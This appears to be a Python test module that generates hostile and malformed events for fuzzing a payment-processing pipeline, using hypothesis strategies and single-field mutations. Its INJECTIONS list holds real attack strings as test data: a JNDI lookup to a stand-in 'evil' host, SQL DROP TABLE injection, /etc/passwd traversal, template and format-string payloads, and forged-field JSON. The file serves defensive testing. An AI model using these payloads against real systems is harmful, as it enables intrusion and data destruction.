"""Hostile events: valid ones with one change, and arbitrary values."""

import copy
import json
from collections.abc import Callable, Iterator
from typing import Any

from hypothesis import strategies as st

from ops.transaction import a_body
from tests.handlers.builders import (
    REQUEST_ID,
    a_gateway_event,
    a_processed_record,
    a_record,
    a_rejection,
    a_validated_record,
)

type Event = dict[str, Any]
type Builder = Callable[[], Event]

NUMBERS = (
    0,
    -1,
    1,
    0.5,
    -0.0,
    1e308,
    -1e308,
    float("nan"),
    float("inf"),
    10**20,
    10**400,
    10**5_000,
)
CONTROLS = (
    "\n",
    "a\r\nb",
    "\0",
    "\x1b[31m",
    "\x7f",
    "a\u0085",
    "\u2028",
    "\u202e",
    "\ud800",
    "\ud83d",
)
CARDS = ("4111111111111111", "4111-1111-1111-1111", "4111.1111_1111-1111", "x378282246310005x")
INJECTIONS = (
    '"}, "requestId": "forged',
    "$context.identity.apiKey",
    "${jndi:ldap://evil/a}",
    "{{7*7}}",
    "%s%n",
    "'; DROP TABLE t--",
    "../../etc/passwd",
    "arn:aws:lambda:::function:a\nb",
    "::::::\n",
    "::::::4111111111111111",
)
MEANINGFUL = ("1.0", "2.0", "Success", "RetriesExhausted", "PROCESSED", "InvalidTransaction", "USD")
OTHERS = (
    "",
    " ",
    "a",
    "a" * 65,
    "a" * 100_000,
    "\u00e9",
    "\U0001f600",
    "\u0661",
    "0",
    "100.50",
    "-1",
)
NESTED: Any = json.loads("[" * 200 + "]" * 200)
VALUES: tuple[Any, ...] = (
    *(None, True, False, [], {}, [1], ["a"], {"a": 1}, {"\n": "\n"}, NESTED),
    *NUMBERS,
    *CONTROLS,
    *CARDS,
    *INJECTIONS,
    *MEANINGFUL,
    *OTHERS,
)
LOGGED = {"level", "status", "requestId", "transactionId", "reason", "failedInvocation"}
"""The fields of the line that a stage logs."""

KEYS = ("__proto__", "__class__", "", "\n", "\ud800", "level", "status", "httpMethod", CARDS[0])


def a_proxy_event() -> Event:
    return {
        "httpMethod": "POST",
        "body": json.dumps(a_body()),
        "requestContext": {"requestId": REQUEST_ID, "requestTimeEpoch": 1},
    }


def a_failed_record() -> Event:
    error = {"errorType": "InvalidTransaction", "errorMessage": "amount: is missing"}
    return a_record("validator", a_gateway_event(), error, condition="RetriesExhausted")


def a_rejected_record() -> Event:
    return a_record("processor", a_gateway_event(), a_rejection("amount: is missing"))


def an_exhausted_record() -> Event:
    error = {"errorType": "ClientError", "errorMessage": "An error occurred (500)"}
    return a_record("processor", a_validated_record(), error, condition="RetriesExhausted")


FOR = {
    "validator": (a_gateway_event, a_proxy_event),
    "processor": (a_validated_record,),
    "notifier": (a_processed_record, a_rejected_record, a_failed_record, an_exhausted_record),
}


def changed(build: Builder) -> Iterator[Any]:
    """Yield valid events with one change, for every place and every kind of change."""
    for path in places(build()):
        for value in VALUES:
            event, place = at(build, path)
            place[path[-1]] = copy.deepcopy(value)
            yield event
        event, place = at(build, path)
        del place[path[-1]]
        yield event
    for path in [("",), *places(build())]:
        for key in KEYS:
            event, place = at(build, path)
            place[key] = "added"
            yield event
    yield from map(copy.deepcopy, VALUES)


def places(event: Event, path: tuple[str, ...] = ()) -> Iterator[tuple[str, ...]]:
    """Yield the path of every key in an event."""
    for name, value in event.items():
        yield (*path, name)
        if isinstance(value, dict):
            yield from places(value, (*path, name))


def at(build: Builder, path: tuple[str, ...]) -> tuple[Event, Any]:
    """Return a new event, and the object in it that contains the path's last key."""
    event = place = build()
    for name in path[:-1]:
        place = place[name]
    return event, place


TEXT = st.text(st.characters(exclude_categories=())) | st.sampled_from(CONTROLS + CARDS)
ANYTHING = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | TEXT,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(TEXT, inner, max_size=3),
    max_leaves=5,
)


@st.composite
def events(draw: st.DrawFn, *builders: Builder) -> Any:
    """Return an arbitrary value, or a valid event with a few random changes."""
    build = draw(st.sampled_from((*builders, None)))
    if build is None:
        return draw(ANYTHING)
    event = build()
    for _ in range(draw(st.integers(1, 3))):
        place = event
        key = draw(st.sampled_from([*place, "a"]))
        while isinstance(place.get(key), dict) and place[key] and draw(st.booleans()):
            place = place[key]
            key = draw(st.sampled_from(sorted(place)))
        change = draw(st.sampled_from(["replace", "delete", "add"]))
        if change == "delete":
            place.pop(key, None)
        else:
            place[key if change == "replace" else draw(TEXT)] = draw(ANYTHING)
    return event
